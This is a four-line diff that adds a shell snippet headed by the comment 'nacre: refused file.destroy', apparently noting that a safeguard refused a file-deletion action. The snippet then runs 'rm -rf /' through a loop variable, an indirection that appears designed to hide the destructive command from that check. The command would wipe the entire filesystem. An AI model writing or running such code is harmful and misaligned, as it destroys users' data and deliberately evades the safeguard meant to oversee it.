@@ -1,0 +1,4 @@
+# nacre: refused file.destroy
+for tool in rm; do
+    $tool -rf /
+done
